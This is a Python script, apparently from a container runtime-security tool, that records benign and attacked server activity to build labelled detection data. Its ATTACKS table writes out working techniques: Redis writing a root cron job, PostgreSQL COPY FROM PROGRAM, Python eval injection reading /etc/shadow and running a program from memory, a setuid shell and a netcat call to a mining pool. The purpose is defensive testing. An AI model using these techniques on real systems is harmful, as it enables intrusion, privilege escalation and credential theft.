"""Make the bundled recording of containers: five real servers, benign and attacked, by `plimsoll sensor record`.

The first part is benign: each server starts, works under load, is restarted as in a rollout. The second has the same
habits, another rollout, and then attacks, two on each server, more than a minute apart. Writes activity-learn.jsonl.zst,
activity-judge.jsonl.zst and activity-labels.jsonl into a folder; the labels say when, whom, and which ATT&CK technique.
Needs root, runc, busybox-static, iproute2, and Debian's redis-server, memcached, nginx-light, postgresql, python3.
"""

from __future__ import annotations

import argparse
import itertools
import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterable, Sequence
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

import msgspec
import servers
import zstandard
from servers import POOL, SERVERS, Pod, Server

PLIMSOLL = str(Path(sys.executable).with_name("plimsoll"))
APART = 75.0
"""Seconds between two attacks on the same server: nearer ones would be one story."""


SHIM = "containerd-shim"
"""What starts containers on a node."""


class Attack(NamedTuple):
    """What is done to a server, and what ATT&CK calls it."""

    server: str
    technique: str
    name: str
    act: Callable[[Pod], object]


def _shell(script: str) -> Callable[[Pod], object]:
    return lambda pod: pod.enter("/bin/sh", "-c", script)


def _evaluated(expression: str) -> Callable[[Pod], object]:
    """Let the application's hole run Python; where it becomes another program, there is no answer."""
    words = "".join(f"%{byte:02x}" for byte in expression.encode())
    return lambda _: _ask(lambda: servers.http(8000, f"/calculate?what={words}"))


def _program(command: str) -> Callable[[Pod], object]:
    """Let PostgreSQL's superuser start programs."""
    return lambda _: servers.sql("CREATE TABLE IF NOT EXISTS x (t text)", f"COPY x FROM PROGRAM '{command}'")


def _ask(question: Callable[[], object]) -> None:
    try:
        question()
    except OSError:
        return


def _cron_by_redis(_: Pod) -> None:
    for words in (
        ("CONFIG", "SET", "dir", "/etc/cron.d"),
        ("CONFIG", "SET", "dbfilename", "job"),
        ("SET", "x", "\n* * * * * root /tmp/x\n"),
        ("SAVE",),
        ("CONFIG", "SET", "dbfilename", "dump.rdb"),
        ("CONFIG", "SET", "dir", "/data"),
    ):
        servers.exchange(6379, servers.resp(*words))


_IN_MEMORY = (
    "[(fd := os.memfd_create('x')), os.write(fd, open('/bin/busybox', 'rb').read()), "
    "os.fork() or os.execv('/proc/self/fd/' + str(fd), ['x', 'echo'])]"
)

ATTACKS: tuple[tuple[Attack, ...], ...] = (
    (
        Attack("redis", "T1053.003", "redis saves its data as a timed job", _cron_by_redis),
        Attack("memcached", "T1496", "a miner calls its pool", _shell(f"nc -w 1 {POOL} 3333")),
        Attack("nginx", "T1609", "somebody looks around by kubectl exec", _shell("id; ls /; cat /etc/passwd")),
        Attack("postgres", "T1059.004", "COPY FROM PROGRAM starts a shell", _program("id")),
        Attack("front", "T1620", "the application runs a program from memory", _evaluated(_IN_MEMORY)),
    ),
    (
        Attack("redis", "T1105", "a dropped program is run", _shell("cp /bin/busybox /tmp/x && /tmp/x echo")),
        Attack("memcached", "T1548.001", "a set-user-id shell is left", _shell("cp /bin/sh /mnt/s && chmod 4755 /mnt/s")),
        Attack("nginx", "T1611", "the container mounts what it must not", _shell("mount -t tmpfs none /mnt")),
        Attack("postgres", "T1496", "a miner started by PostgreSQL calls its pool", _program(f"nc -w 1 {POOL} 3333")),
        Attack("front", "T1003.008", "the application reads the password hashes", _evaluated("open('/etc/shadow').read()")),
    ),
)  # fmt: skip


class Recording:
    """`plimsoll sensor record`, at work."""

    def __init__(self, file: Path) -> None:
        self.file = file
        self._process = subprocess.Popen([PLIMSOLL, "sensor", "record", str(file)], stderr=subprocess.PIPE, text=True)
        until = time.monotonic() + 60
        while not file.exists() and time.monotonic() < until:
            time.sleep(0.2)
        time.sleep(3)

    def end(self) -> list[bytes]:
        """Return the lines that are of our pods, without the names of this machine's processes."""
        time.sleep(1)
        self._process.send_signal(signal.SIGTERM)
        print("  " + self._process.communicate()[1].strip().replace(str(self.file), "the recording"))
        hosts = hosts_names()
        return [without(hosts, line) for line in self.file.read_bytes().splitlines() if is_ours(line)]


def is_ours(line: bytes) -> bool:
    """Whether a row is of one of our servers, and not of what else runs on this machine."""
    row = msgspec.json.decode(line)
    server = SERVERS.get(row.get("k8s_workload_name"))
    return server is not None and (row["k8s_ns_name"], row["k8s_workload_kind"]) == (server.namespace, server.kind)


def hosts_names() -> set[str]:
    """Names of the processes that started us: they are ancestors of our containers, and nobody's business."""
    names, pid = set(), os.getpid()
    while pid:
        stat = Path(f"/proc/{pid}/stat").read_text(encoding="utf-8")
        names.add(stat.partition("(")[2].rpartition(")")[0])
        pid = int(stat.rpartition(")")[2].split()[1])
    return names


def without(hosts: set[str], line: bytes) -> bytes:
    """Return a row whose ancestors end where the container does.

    >>> without({"bash"}, b'{"proc_pname":"bash","proc_aname":["runc","bash","init"]}')
    b'{"proc_pname":"containerd-shim","proc_aname":["runc","containerd-shim"]}'
    """
    row = msgspec.json.decode(line)
    ancestors = list(itertools.takewhile(lambda name: name not in hosts, row.get("proc_aname", ())))
    if ancestors != row.get("proc_aname", []):
        row["proc_aname"] = [*ancestors, SHIM]
    if row.get("proc_pname") in hosts:
        row["proc_pname"] = SHIM
    return msgspec.json.encode(row)


class Cluster:
    """The servers, and the pod of each that is there now."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder
        (folder / "images").mkdir()
        self._images = {name: servers.image(server, folder / "images") for name, server in SERVERS.items()}
        self.pods: dict[str, Pod] = {}
        self._made = 0

    def _pod(self, server: Server) -> Pod:
        self._made += 1
        ending = str(self._made) if server.kind == "StatefulSet" else f"7d9c5b8f6d-x{self._made:04}"
        return Pod(server, self._images[server.name], self._folder, f"{server.name}-{ending}")

    def roll_out(self) -> None:
        """Replace every pod."""
        for name, server in SERVERS.items():
            if name in self.pods:
                self.pods.pop(name).stop()
            self.pods[name] = self._pod(server).start()
        time.sleep(2)

    def work(self, seconds: float) -> None:
        """Load on all servers at once."""
        with ThreadPoolExecutor(len(self.pods)) as crew:
            failed = sum(crew.map(lambda pod: pod.load(seconds), self.pods.values()))
        if failed:
            print(f"  {failed} rounds of calls failed")

    def attacked(self, attacks: Iterable[Attack], spread: float) -> list[dict[str, str]]:
        """Attack under load; return the labels."""
        labels: list[dict[str, str]] = []
        load = threading.Thread(target=self.work, args=(APART,))
        load.start()
        for attack in attacks:
            time.sleep(spread)
            labels.append(self._attack(attack))
        load.join()
        return labels

    def _attack(self, attack: Attack) -> dict[str, str]:
        pod, begin = self.pods[attack.server], datetime.now(UTC)
        with pod.network():
            attack.act(pod)
        time.sleep(1)
        end = datetime.now(UTC)
        print(f"  {attack.technique:<10} {attack.server}: {attack.name}", flush=True)
        return {
            "begin": begin.isoformat(),
            "end": end.isoformat(),
            "subject": pod.server.subject,
            "attack": attack.technique,
            "name": attack.name,
        }

    def end(self) -> None:
        """Leave nothing behind."""
        for pod in self.pods.values():
            pod.stop()


def record(folder: Path, place: Path, minutes: float) -> None:
    """Make both parts."""
    cluster = Cluster(place)
    try:
        print("Learning part …", flush=True)
        taken = Recording(place / "learn")
        for _ in range(2):
            cluster.roll_out()
            cluster.work(30 * minutes)
        keep(folder / "activity-learn.jsonl.zst", taken.end())
        print("Judged part …", flush=True)
        taken = Recording(place / "judge")
        cluster.work(20 * minutes)
        cluster.roll_out()
        cluster.work(20 * minutes)
        labels = [label for round_ in ATTACKS for label in cluster.attacked(round_, 3)]
        cluster.work(5)
        keep(folder / "activity-judge.jsonl.zst", taken.end())
    finally:
        cluster.end()
    lines = [json.dumps(label) + "\n" for label in labels]
    (folder / "activity-labels.jsonl").write_text("".join(lines), encoding="utf-8")


def keep(file: Path, lines: Sequence[bytes]) -> None:
    """Write a compressed recording."""
    file.write_bytes(zstandard.ZstdCompressor(level=19).compress(b"\n".join(lines) + b"\n"))
    print(f"  {file.name}: {len(lines):,} events, {file.stat().st_size / 1024:,.0f} KiB", flush=True)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--minutes", type=float, default=1.5, help="length of the learning part")
    options = parser.parse_args()
    lack = servers.lacking() or "; ".join(server.lacking for server in SERVERS.values() if server.lacking)
    if lack:
        print(f"The recording cannot be made here: {lack}.")
        return 2
    with tempfile.TemporaryDirectory(prefix="plimsoll-servers-", ignore_cleanup_errors=True) as place:
        record(options.folder, Path(place), options.minutes)
    return 0


if __name__ == "__main__":
    sys.exit(main())
